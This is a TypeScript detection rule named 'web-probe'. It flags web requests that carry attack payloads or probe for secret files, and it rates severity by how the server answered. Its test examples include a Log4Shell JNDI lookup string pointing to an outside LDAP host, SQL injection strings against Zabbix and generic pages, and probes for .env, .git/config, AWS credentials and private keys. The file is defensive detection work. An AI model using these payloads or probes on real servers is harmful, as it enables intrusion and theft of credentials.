import { z } from 'zod'
import { grouped } from '../core/figure.ts'
import { DAY } from '../core/time.ts'
import type { EventView } from '../core/view.ts'
import { defineRule } from '../kit/define-rule.ts'
import { familiesOf, PAYLOAD_FAMILIES, productDoor, traitsOf } from '../kit/payloads/index.ts'
import { advise, blockSources } from '../kit/recommend.ts'
import { ServedPages } from './support/served.ts'
import { ANSWER_NAMES, ANSWERS, type Answer, accessLine, answerOf, shortTarget } from './support/web.ts'
import { listed, many, within } from './support/words.ts'

/** Pages that a site's own people use too: one request says nothing, a row of them that are not there does. */
const AMBIGUOUS = traitsOf('wordpress_admin', 'phpmyadmin', 'actuator', 'server_status', 'generic_cgi', 'backup_file')
/** Paths of products, which are no attack where the product lives and its users come in. */
const PRODUCTS = traitsOf('known_cve')
/** Of these, the ones that nobody asks for by mistake on a site that does not have them. */
const FOREIGN = traitsOf('wordpress_admin', 'phpmyadmin', 'actuator', 'server_status', 'known_cve')
/** Other rules' matter, or none by itself. */
const ASIDE = traitsOf('open_proxy', 'double_encoding')
/** What is told as found where it was served: files and pages, as against payloads that any page may be given. */
const THINGS = traitsOf(
  'env_file',
  'git_exposure',
  'secret_file',
  'backup_file',
  'actuator',
  'server_status',
  'phpunit_eval_stdin',
  'webshell',
  'cgi_shell_traversal',
  'lfi_file_read',
  'path_traversal',
  'router_exploit',
  'boaform',
  'known_cve',
)
const MOST_EXAMPLES = 5
const MOST_SERVED = 8

/** What a source has tried: traits, examples, answers by kind, and what was served with which size and traits. */
type Record = readonly [
  traits: number,
  examples: readonly string[],
  answers: readonly number[],
  served: readonly Served[],
]
type Served = readonly [target: string, size: number, traits: number]

const EMPTY: Record = [0, [], ANSWERS.map(() => 0), []]

function extend(record: Record, event: EventView, answer: Answer): Record {
  const [traits, examples, answers, served] = record
  const target = shortTarget(event)
  const counts = answers.map((count, index) => (ANSWERS[index] === answer ? count + 1 : count))
  const isNew = examples.length < MOST_EXAMPLES && !examples.includes(target)
  const given = answer === 'served' && served.length < MOST_SERVED && !served.some(([known]) => known === target)
  return [
    (traits | event.traits) >>> 0,
    isNew ? [...examples, target] : examples,
    counts,
    given && !isPattern(event) ? [...served, [target, event.size, event.traits]] : served,
  ]
}

/** Files that are made to be shown: what to write into the real one. */
const isPattern = ({ path }: EventView): boolean => /\/\.env[._-](?:example|sample|dist|template)$/i.test(path ?? '')

const titles = (ids: readonly string[]): string[] =>
  ids.map(id => PAYLOAD_FAMILIES.find(family => family.id === id)?.title ?? id)

/** The file manager of a Mac asks every folder of a share for its settings. */
const isFinder = ({ method, path }: EventView): boolean =>
  method !== undefined && /^(?:PROPFIND|LOCK|UNLOCK|PUT|DELETE)$/.test(method) && path?.endsWith('/.DS_Store') === true

export default defineRule({
  id: 'web-probe',
  title: 'Attack payloads and probes for secrets on the web server',
  severity: 'low',
  confidence: 0.9,
  techniques: ['T1190', 'T1595.002'],
  description:
    'Looks at what a request is after (payload families, told on the decoded path, parameters, referrer and agent) and at ' +
    'how the server answered. One request with an attack in it is enough; pages that a site has for its own people count ' +
    'when several that are not there were asked for, or one that this site has never had (told as information). What was served weighs more than what was refused; an answer that ' +
    'is the same page for everything counts as not served.',
  on: ['web.request'],
  options: {
    ambiguous: z
      .int()
      .min(1)
      .max(1000)
      .default(3)
      .describe('Distinct management pages that were not there, asked for in a day, at which those alone are raised.'),
  },
  detect: ({ ambiguous }, { state }) => {
    const records = state.memory<Record>('probes', { keep: 7 * DAY, cap: 50_000 })
    const missed = state.distinctCount('missed', { window: DAY, limit: ambiguous, cap: 50_000 })
    const present = state.memory<true>('present', { keep: 90 * DAY, cap: 10_000 })
    const pages = new ServedPages(state)
    return {
      observe(event, raise) {
        pages.learn(event)
        const traits = (event.traits & ~ASIDE) >>> 0
        if (traits === 0 || event.source < 0 || isFinder(event)) return
        const { source, time } = event
        const answer = answerOf(event.status)
        if ((traits & THINGS) !== 0) pages.note(event)
        const known = records.get(source, time)
        let trail: ReturnType<typeof missed.trail>
        const door = (traits & PRODUCTS) === 0 ? undefined : productDoor(event.path ?? '', event.query)
        const site = `${event.target ?? ''} ${door ?? traits}`
        const vague = door === undefined ? AMBIGUOUS : AMBIGUOUS | PRODUCTS
        // What lives here is no probe, whatever else that address was after; files that should not be there are one.
        const isOfSite = (traits & ~vague) === 0 && (door !== undefined || (traits & THINGS) === 0)
        if (isOfSite && present.get(site, time) !== undefined) return
        if ((traits & ~vague) === 0 && known === undefined) {
          if (answer === 'served' || answer === 'redirected') {
            present.set(site, true, time)
            return
          }
          const foreign = (traits & FOREIGN) !== 0 && answer === 'missing' && present.get(site, time) === undefined
          if (missed.addEvent(source, event.path ?? '', event) < ambiguous && !foreign) return
          trail = missed.trail(source)
        }
        const record = extend(known ?? EMPTY, event, answer)
        records.set(source, record, time)
        const [all, examples, answers, served] = record
        const found = served.filter(([, size, had]) => (had & THINGS) !== 0 && pages.isOwnPage(event, size))
        raise.hit(source, event, {
          trail,
          facts: {
            families: familiesOf(all),
            examples,
            answers: ANSWERS.flatMap((name, index) =>
              answers[index] > 0 ? [`${grouped(answers[index])} ${ANSWER_NAMES[name]}`] : [],
            ),
            clear: (all & ~AMBIGUOUS) !== 0,
            found: found.map(([target]) => target),
            taken: served.filter(([, , had]) => (had & THINGS) === 0).map(([target]) => target),
            failed: answers[ANSWERS.indexOf('failed')],
          },
        })
      },
    }
  },
  explain: (story, { ambiguous }, host) => {
    const texts = (name: string): readonly string[] => {
      const fact = story.facts[name]
      return Array.isArray(fact) ? fact : []
    }
    const families = texts('families')
    const found = texts('found')
    const taken = texts('taken')
    const exploits = PAYLOAD_FAMILIES.filter(family => family.exploit && families.includes(family.id))
    const struck = exploits.length > 0 && (taken.length > 0 || Number(story.facts.failed ?? 0) > 0)
    // A stranger at the door of a page that is not there: true, and everybody's daily life.
    const idle = story.facts.clear === false && story.count < ambiguous
    const severity = found.length > 0 ? 'high' : struck ? 'medium' : idle ? 'info' : 'low'
    return {
      title: `${many(story.count, 'probe')} from ${story.sources[0] ?? 'one source'}: ${listed(titles(families), 2)}`,
      severity,
      reasons: [
        // What makes it high comes first: a line of the console has room for no more.
        ...(found.length > 0
          ? [
              {
                text: `The server gave, with pages of their own: ${listed(found, 8)}`,
                feature: 'served',
                observed: found.length,
                expected: '0',
              },
            ]
          : []),
        {
          text: `${many(story.count, 'request')}${within(story)} for ${listed(titles(families), 8)}; visitors of a site send none`,
          feature: 'payload_families',
          observed: families.join(', '),
          expected: 'none',
        },
        { text: `Answers: ${texts('answers').join(', ')}`, feature: 'answers' },
        { text: `Asked for: ${listed(texts('examples'), MOST_EXAMPLES)}` },
        ...(found.length === 0 && taken.length > 0
          ? [
              {
                text: 'Pages that exist were given attack payloads and answered; whether they took effect the log does not tell',
              },
            ]
          : []),
      ],
      recommendations: [
        ...(found.length > 0
          ? [
              advise(
                `Look at what was served, remove it from the document root, and renew any secret in it: ${listed(found, 8)}`,
              ),
            ]
          : []),
        ...blockSources(story.sources, host),
      ],
    }
  },
  examples: () => ({
    fires: [
      {
        name: 'a product that this site does not have',
        lines: [accessLine('/geoserver/web/')],
        accuses: ['203.0.113.7'],
        severity: 'low',
      },
      {
        name: 'a hole of a product, answered',
        lines: [
          accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 }),
          accessLine('/owa/auth/x.js', { status: 200, size: 40 }),
        ],
        severity: 'high',
      },
      {
        name: 'a product in use, and injection into it',
        lines: [
          accessLine('/zabbix/zabbix.php', { source: '192.0.2.9', status: 200, size: 5120 }),
          accessLine("/zabbix/jsrpc.php?type=0&profileIdx2=1'+union+select+1,2--", { status: 200, size: 40 }),
        ],
        accuses: ['203.0.113.7'],
      },
      { name: 'one request for .env', lines: [accessLine('/.env')], accuses: ['203.0.113.7'], severity: 'low' },
      {
        name: 'a repository that was served',
        lines: [
          accessLine('/', { source: '192.0.2.9', status: 200, size: 5120 }),
          accessLine('/.git/config', { status: 200, size: 274, second: 9 }),
        ],
        severity: 'high',
      },
      {
        name: 'SQL injection that a page answered',
        lines: [accessLine("/item?id=1'+union+select+1,2--", { status: 200, size: 9000 })],
        severity: 'medium',
      },
      {
        name: 'Log4Shell in the agent',
        lines: [accessLine('/', { status: 200, agent: '${jndi:ldap://198.51.100.9/a}' })],
        severity: 'medium',
      },
      {
        name: 'a row of management pages that are not there',
        lines: ['/phpmyadmin/', '/wp-login.php', '/pma/', '/wp-admin/'].map((path, second) =>
          accessLine(path, { second }),
        ),
        severity: 'low',
      },
      {
        name: 'the pattern of a file of secrets, which has none',
        lines: [accessLine('/docs/.env.example', { status: 200, size: 700 })],
        severity: 'low',
      },
      { name: 'WordPress, asked for on a site that has none', lines: [accessLine('/wp-login.php')], severity: 'info' },
      {
        name: 'an application of one page that answers everything: nothing was served',
        lines: [
          accessLine('/', { source: '192.0.2.9', status: 200, size: 1234 }),
          ...['/.env', '/.git/config', '/.aws/credentials'].map((path, second) =>
            accessLine(path, { second, status: 200, size: 1234 }),
          ),
        ],
        severity: 'low',
      },
      {
        name: 'the same, where the home page was never seen',
        lines: ['/.env', '/.git/config', '/.aws/credentials', '/id_rsa'].map((path, second) =>
          accessLine(path, { second, status: 200, size: 1234 }),
        ),
        severity: 'low',
      },
    ],
    quiet: [
      {
        name: 'a Mac at a share',
        lines: [accessLine('PROPFIND /dav/photos/.DS_Store HTTP/1.1', { agent: 'WebDAVFS/3.0.0 Darwin/23.1.0' })],
      },
      {
        name: 'a WordPress site and the people who write it',
        lines: [
          '/wp-login.php',
          '/wp-admin/',
          '/wp-admin/edit.php',
          '/wp-admin/admin-ajax.php',
          '/wp-admin/load-styles.php?c=1',
        ].map((path, second) => accessLine(path, { second, status: 200, size: 4000 + second })),
      },
      {
        name: 'maps, a monitor and a servlet container, and the people who use them',
        lines: Array.from({ length: 40 }, (_, i) => [
          accessLine(`/geoserver/wms?SERVICE=WMS&LAYERS=a:b&BBOX=${i}`, { second: i, status: 200, size: 4000 + i }),
          accessLine(`/zabbix/zabbix.php?action=dashboard.view&id=${i}`, { second: i, status: 200, size: 9000 + i }),
          accessLine(`/zabbix/image-${i}.png`, { second: i }),
          accessLine('/manager/html', { second: i, status: i === 0 ? 401 : 200, size: 2000 + i }),
          accessLine('/phpmyadmin/index.php?route=/sql', { second: i, status: 200, size: 2000 + i }),
          accessLine(`/recordings/${i}.mp3`, { second: i, status: 206, source: '192.0.2.9', size: 50_000 + i }),
        ]).flat(),
      },
      {
        name: 'names that look like it',
        lines: [
          '/.github/a.yml',
          '/app.envelope.js',
          '/.environment',
          '/shop/linear-actuator-12v',
          '/pets?tags=dog|cat',
          '/a;id/3',
        ].map(path => accessLine(path)),
      },
      {
        name: 'a bookmark of a page that is gone',
        lines: [
          accessLine('/wp-login.php', { status: 200, size: 5000, source: '192.0.2.4' }),
          accessLine('/wp-login.php'),
          accessLine('/wp-login.php', { second: 60 }),
        ],
      },
      { name: 'prose in a search', lines: [accessLine("/search?q=rock+and+roll+or+O'Brien", { status: 200 })] },
    ],
  }),
  falsePositives: [
    'Your own security scan.',
    'A search engine that follows an attack which somebody published as a link.',
  ],
})
